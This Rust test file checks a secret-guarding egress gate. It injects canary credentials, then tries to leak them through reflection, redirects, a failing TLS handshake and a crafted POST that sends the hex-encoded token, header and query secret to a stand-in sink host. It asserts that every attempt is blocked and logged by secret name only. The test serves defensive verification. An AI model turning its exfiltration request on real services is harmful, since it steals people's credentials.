//! The canary check, on a run that exercises every path a secret could leak through: injection,
//! reflection, redirects, blocks with the secret's name, log lines, job outputs, a failing TLS
//! handshake. Afterwards no byte of any test secret, in any encoding the detector knows, may be in
//! the test's data dir (outside the vault file), in anything logged, or in the outputs.
//! (Every other test ends with the same check when its `Env` drops.)

use crate::support::servers::Server;
use crate::support::tls::TestCa;
use crate::support::{Env, bearer, blocked, caller, get, logs};
use redoubt_egress::{BlockReason, OutboundRequest, TlsRoots};
use redoubt_vault::Injection;

#[tokio::test]
async fn no_secret_byte_escapes_into_files_logs_or_outputs() {
    let env = Env::new();
    let token = env.secret("canary-api", &["api.redoubt.test"], &["name:weather-bot"], bearer());
    let query = env.secret(
        "canary-query",
        &["api.redoubt.test"],
        &["name:weather-bot"],
        Injection::Query { param: "k".into() },
    );
    let header = env.secret(
        "canary-header",
        &["api.redoubt.test"],
        &["name:weather-bot"],
        Injection::Header { name: "x-api-key".into(), template: "key={secret}".into() },
    );
    let server = Server::http(&[&token]).await;
    let ca = TestCa::new();
    let wrong_name = Server::https(&ca, &["other.redoubt.test"]).await;
    env.resolver.answer("api.redoubt.test", &["127.0.0.1"]);
    env.resolver.answer("sink.redoubt.test", &["127.0.0.1"]);
    let gate = env.gate(|c| c.tls_roots = TlsRoots::Custom(ca.roots()));
    let who = caller(&["*.redoubt.test"], &["canary-api", "canary-query", "canary-header"]);

    // Injected everywhere and reflected back: the response is refused.
    let echo = blocked(gate.fetch(&who, get(&server.url("http", "api.redoubt.test", "/echo"))).await);
    assert!(matches!(echo, BlockReason::Reflected { place: "response", .. }), "{echo}");
    let seen = &server.seen()[0];
    assert!(seen.path_and_query.ends_with(&format!("k={query}")));
    assert_eq!(seen.header("x-api-key"), Some(format!("key={header}").as_str()));
    // A server handing out a secret, redirects reflecting one, a leak attempt in every part.
    let leaked = blocked(gate.fetch(&who, get(&server.url("http", "api.redoubt.test", "/leak?i=0"))).await);
    assert!(matches!(leaked, BlockReason::Reflected { .. }), "{leaked}");
    let sink: String = url::form_urlencoded::byte_serialize(b"http://sink.redoubt.test/c").collect();
    let _ =
        gate.fetch(&who, get(&server.url("http", "api.redoubt.test", &format!("/redirect-reflect?to={sink}")))).await;
    let leak = OutboundRequest {
        method: "POST".into(),
        url: format!("http://sink.redoubt.test/{}", hex::encode(&token)),
        headers: vec![("x-copy".into(), header.clone())],
        body: query.clone().into_bytes(),
    };
    let _ = gate.fetch(&who, leak).await;
    // A TLS failure with a credential ready to go.
    let _ = gate.fetch(&who, get(&wrong_name.url("https", "api.redoubt.test", "/"))).await;

    let events = env.blocks();
    // The echo and the leak refused as reflections, the redirect and the smuggled request.
    assert_eq!(events.len(), 4, "{events:#?}");
    assert!(events.iter().all(|e| e.secret.is_some()));
    // The captured logs are not empty: the blocks were logged, by secret name.
    let logs = String::from_utf8_lossy(&logs::captured()).into_owned();
    assert!(logs.contains("egress blocked") && logs.contains("canary-api"), "logging is captured");
    // The explicit check (the drop of `env` repeats it).
    let detector = env.detector();
    assert!(detector.scan(logs.as_bytes()).is_none());
    let mut files = 0;
    for entry in std::fs::read_dir(env.dir.path()).unwrap() {
        let path = entry.unwrap().path();
        // The vault file is scanned too: it holds ciphertext only.
        assert!(detector.scan(&std::fs::read(&path).unwrap()).is_none(), "{}", path.display());
        files += 1;
    }
    assert!(files >= 1 && env.dir.path().join("vault.json").exists());
}
